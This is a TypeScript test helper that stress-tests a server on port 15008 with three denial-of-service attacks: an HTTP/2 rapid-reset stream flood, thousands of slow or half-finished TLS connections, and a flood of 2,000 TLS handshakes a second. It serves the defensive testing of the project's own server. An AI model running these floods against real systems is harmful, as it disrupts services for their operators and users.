import { once } from 'node:events';
import { connect as connectSocket, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import tls from 'node:tls';
import type { IdentityFiles } from './attack-processes.ts';
import {
  CLIENT_PREFACE,
  FLAG_END_HEADERS,
  HEADERS,
  RST_STREAM,
  SETTINGS,
} from '../../net/h2/frame.ts';
import { recordClientHello } from './client-hello.ts';
import { block, frame, u32 } from './h2-frames.ts';

/*
 * One class of attackers of port 15008, against an address of the test's own: attack-program.ts KIND HOST PORT MS
 * It ends by itself after MS milliseconds, and prints how many connections it made. KIND is:
 *   h2       200 sessions that reset what they open, each again and again
 *   slow     4,000 connections that say nothing, half of a ClientHello, or a byte now and then
 *   junk     2,000 handshakes a second that are dropped after the ClientHello
 * An identity is on stdin, as JSON.
 */

const SESSIONS = 200;
const SLOW_CONNECTIONS = 4000;
const HANDSHAKES_PER_SECOND = 2000;

const [kind = '', host = '', port = '', ms = ''] = process.argv.slice(2);
const until = performance.now() + Number(ms);
const sockets = new Set<Socket>();
let made = 0;

function over(): boolean {
  return performance.now() >= until;
}

async function readIdentity(): Promise<IdentityFiles> {
  const parts: Buffer[] = [];
  for await (const part of process.stdin as AsyncIterable<Buffer>) parts.push(part);
  return JSON.parse(Buffer.concat(parts).toString()) as IdentityFiles;
}

function dial(): Socket {
  made++;
  const socket = connectSocket({ host, port: Number(port) });
  sockets.add(socket);
  return socket.on('error', () => undefined).on('close', () => sockets.delete(socket));
}

/** As far as the kernel lets it close in the time that is left. */
async function untilClosed(socket: Socket): Promise<void> {
  if (socket.closed) return;
  await Promise.race([
    once(socket, 'close').catch(() => undefined),
    pause(Math.max(0, until - performance.now())),
  ]);
}

function rapidResets(): Buffer {
  const request = block(':method', 'CONNECT', ':authority', `${host}:8080`);
  const frames = [CLIENT_PREFACE, frame(SETTINGS, 0, 0)];
  for (let id = 1; id < 1000; id += 2)
    frames.push(frame(HEADERS, FLAG_END_HEADERS, id, request), frame(RST_STREAM, 0, id, u32(8)));
  return Buffer.concat(frames);
}

async function attackStreams({ key, cert, ca }: IdentityFiles): Promise<void> {
  const bytes = rapidResets();
  const one = async (): Promise<void> => {
    while (!over()) {
      const options = {
        key,
        cert,
        ca,
        ALPNProtocols: ['h2'],
        checkServerIdentity: () => undefined,
      };
      const session = tls.connect({ ...options, socket: dial() }).on('error', () => undefined);
      session.on('secureConnect', () => session.write(bytes)).resume();
      await untilClosed(session);
      session.destroy();
    }
  };
  await Promise.all(Array.from({ length: SESSIONS }, one));
}

async function attackSlowly(identity: IdentityFiles): Promise<void> {
  const hello = await recordClientHello({ ...identity, ALPNProtocols: ['h2'] });
  const one = async (_: unknown, index: number): Promise<void> => {
    await pause(index / 4); // a thousand connections take a quarter of a second to begin
    while (!over()) {
      const socket = dial();
      if (index % 3 === 1) socket.write(hello.subarray(0, hello.length >> 1));
      if (index % 3 === 2) socket.write(hello.subarray(0, 1));
      await untilClosed(socket);
      await pause(1000);
    }
  };
  await Promise.all(Array.from({ length: SLOW_CONNECTIONS }, one));
}

async function attackHandshakes(identity: IdentityFiles): Promise<void> {
  const hello = await recordClientHello({ ...identity, ALPNProtocols: ['h2'] });
  const began = performance.now();
  while (!over()) {
    const due = ((performance.now() - began) * HANDSHAKES_PER_SECOND) / 1000;
    while (made < due) {
      const socket = dial();
      socket.write(hello);
      socket.once('data', () => socket.destroy());
    }
    await pause(2);
  }
}

const identity = await readIdentity();
if (kind === 'h2') await attackStreams(identity);
else if (kind === 'slow') await attackSlowly(identity);
else await attackHandshakes(identity);
for (const socket of sockets) socket.destroy();
process.stdout.write(`${made}\n`);
process.exit();
